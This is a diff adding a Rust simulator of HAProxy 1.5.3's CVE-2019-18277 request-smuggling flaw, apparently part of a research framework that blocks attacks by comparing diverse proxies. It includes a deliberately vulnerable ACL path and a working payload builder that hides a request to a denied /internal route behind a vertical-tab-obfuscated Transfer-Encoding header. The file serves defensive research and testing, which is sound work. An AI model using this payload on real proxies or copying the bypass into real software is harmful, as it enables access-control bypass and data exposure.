@@ -1,0 +1,203 @@
+//! HaproxySim: a reverse proxy with the CVE-2019-18277 request-smuggling
+//! flaw (§V-C1).
+//!
+//! HAProxy 1.5.3 mishandled `Transfer-Encoding` headers containing
+//! obfuscation characters: it failed to recognize the chunked framing that
+//! the backend *would* apply, so attacker-controlled body bytes were
+//! forwarded as a second, un-inspected request — smuggling a call to an
+//! ACL-denied route past the proxy. nginx (the diverse partner) rejects the
+//! malformed header, so under RDDR the two proxies' upstream traffic and
+//! responses diverge and the attack is blocked.
+//!
+//! The simulator reproduces the observable behaviour: a `Transfer-Encoding`
+//! value that normalizes to `chunked` but is not literally `chunked`
+//! (e.g. `\x0bchunked`, the vertical-tab variant from the advisory) makes
+//! HaproxySim treat the request body as plain `Content-Length` data and
+//! then re-parse the remainder as a fresh request — which it forwards
+//! without re-checking the deny ACL.
+
+use rddr_net::{ServiceAddr, Stream};
+use rddr_orchestra::{Service, ServiceCtx};
+
+use crate::framework::{read_request, try_parse_request, HttpResponse};
+
+/// Path prefixes the proxies must never forward from outside (the paper's
+/// "API call that should not be invoked directly from outside the
+/// deployment", enforced by both HAProxy and nginx configs).
+pub const DENIED_PREFIXES: &[&str] = &["/internal", "/admin"];
+
+/// Whether the ACL denies a path.
+pub fn is_denied(path: &str) -> bool {
+    DENIED_PREFIXES.iter().any(|p| path.starts_with(p))
+}
+
+/// Strips header-obfuscation bytes (the characters HAProxy 1.5.3 failed to
+/// treat as part of the token) and lowercases.
+pub fn normalize_header_value(value: &str) -> String {
+    value
+        .chars()
+        .filter(|c| !c.is_control() && !c.is_whitespace())
+        .collect::<String>()
+        .to_ascii_lowercase()
+}
+
+/// Forwards one raw request to `upstream` and reads one response.
+/// Returns `None` if the upstream is unreachable.
+pub(crate) fn forward_request(
+    ctx: &ServiceCtx,
+    upstream: &ServiceAddr,
+    raw: &[u8],
+) -> Option<HttpResponse> {
+    let mut conn = ctx.net.dial(upstream).ok()?;
+    conn.write_all(raw).ok()?;
+    read_one_response(&mut *conn)
+}
+
+pub(crate) fn read_one_response(conn: &mut dyn Stream) -> Option<HttpResponse> {
+    let mut buf = Vec::new();
+    let mut chunk = [0u8; 16 * 1024];
+    loop {
+        if let Some((resp, consumed)) = crate::framework::try_parse_response(&buf) {
+            let _ = consumed;
+            return Some(resp);
+        }
+        match conn.read(&mut chunk) {
+            Ok(0) | Err(_) => return None,
+            Ok(n) => buf.extend_from_slice(&chunk[..n]),
+        }
+    }
+}
+
+/// The HAProxy 1.5.3 simulator.
+pub struct HaproxySim {
+    upstream: ServiceAddr,
+}
+
+impl std::fmt::Debug for HaproxySim {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("HaproxySim").field("upstream", &self.upstream).finish()
+    }
+}
+
+impl HaproxySim {
+    /// Creates the proxy (version 1.5.3, the vulnerable release the paper
+    /// deploys).
+    pub fn new(upstream: ServiceAddr) -> Self {
+        Self { upstream }
+    }
+
+    /// The version banner.
+    pub fn banner(&self) -> String {
+        "haproxy/1.5.3".to_string()
+    }
+}
+
+impl Service for HaproxySim {
+    fn name(&self) -> &str {
+        "haproxy"
+    }
+
+    fn handle(&self, mut conn: rddr_net::BoxStream, ctx: &ServiceCtx) {
+        let mut buf = Vec::new();
+        loop {
+            let Ok(Some((req, raw))) = read_request(&mut conn, &mut buf) else {
+                return;
+            };
+            // ACL on the request HAProxy *parsed*.
+            if is_denied(&req.path) {
+                let resp = HttpResponse::status(403, "403 Forbidden")
+                    .header("Server", &self.banner());
+                if conn.write_all(&resp.to_bytes()).is_err() {
+                    return;
+                }
+                continue;
+            }
+            // CVE-2019-18277: an obfuscated Transfer-Encoding is *not*
+            // recognized as chunked; the Content-Length body has already
+            // been consumed into `req.body` by our framing, and HAProxy
+            // re-interprets those body bytes as a following request —
+            // forwarding it upstream without the ACL check.
+            let obfuscated_te = req.header("transfer-encoding").is_some_and(|te| {
+                normalize_header_value(te) == "chunked" && te != "chunked"
+            });
+            let response = match forward_request(ctx, &self.upstream, &raw) {
+                Some(r) => r.header("Server", &self.banner()),
+                None => HttpResponse::status(500, "upstream unavailable"),
+            };
+            if conn.write_all(&response.to_bytes()).is_err() {
+                return;
+            }
+            if obfuscated_te {
+                // The smuggled request: the body bytes re-parsed as HTTP.
+                if let Some((smuggled, _)) = try_parse_request(&req.body) {
+                    let _ = smuggled; // no ACL re-check — that's the bug
+                    if let Some(resp2) = forward_request(ctx, &self.upstream, &req.body) {
+                        let resp2 = resp2.header("Server", &self.banner());
+                        if conn.write_all(&resp2.to_bytes()).is_err() {
+                            return;
+                        }
+                    }
+                }
+            }
+        }
+    }
+}
+
+/// A deny-listed upstream service for the smuggling scenario: `/public`
+/// answers normally, `/internal/flush` must only ever be called from inside
+/// the deployment.
+pub fn smuggling_target_service() -> crate::framework::HttpService {
+    crate::framework::HttpService::new("s1")
+        .route("GET", "/public", |_r, _c| HttpResponse::ok("public ok"))
+        .route("GET", "/internal/flush", |_r, _c| {
+            HttpResponse::ok("INTERNAL: cache flushed, dumping keys: k1=sess-abc k2=sess-def")
+        })
+}
+
+/// Builds the CVE-2019-18277 smuggling payload: an outer request for a
+/// permitted path whose body is a complete request for a denied path,
+/// hidden behind an obfuscated `Transfer-Encoding`.
+pub fn smuggling_payload() -> Vec<u8> {
+    let inner = b"GET /internal/flush HTTP/1.1\r\nHost: s1\r\n\r\n".to_vec();
+    let mut outer = format!(
+        "GET /public HTTP/1.1\r\nHost: s1\r\nTransfer-Encoding: \x0bchunked\r\n\
+         Content-Length: {}\r\n\r\n",
+        inner.len()
+    )
+    .into_bytes();
+    outer.extend(inner);
+    outer
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn acl_denies_internal_paths() {
+        assert!(is_denied("/internal/flush"));
+        assert!(is_denied("/admin"));
+        assert!(!is_denied("/public"));
+        assert!(!is_denied("/public-internal"));
+    }
+
+    #[test]
+    fn normalize_strips_obfuscation() {
+        assert_eq!(normalize_header_value("\u{b}chunked"), "chunked");
+        assert_eq!(normalize_header_value(" Chunked "), "chunked");
+        assert_eq!(normalize_header_value("chunked"), "chunked");
+    }
+
+    #[test]
+    fn payload_contains_hidden_request() {
+        let p = smuggling_payload();
+        let text = String::from_utf8_lossy(&p);
+        assert!(text.contains("GET /public"));
+        assert!(text.contains("GET /internal/flush"));
+        assert!(text.contains("\u{b}chunked"));
+        // The outer request parses with the inner one as its body.
+        let (outer, used) = try_parse_request(&p).unwrap();
+        assert_eq!(used, p.len());
+        assert!(String::from_utf8_lossy(&outer.body).starts_with("GET /internal/flush"));
+    }
+}
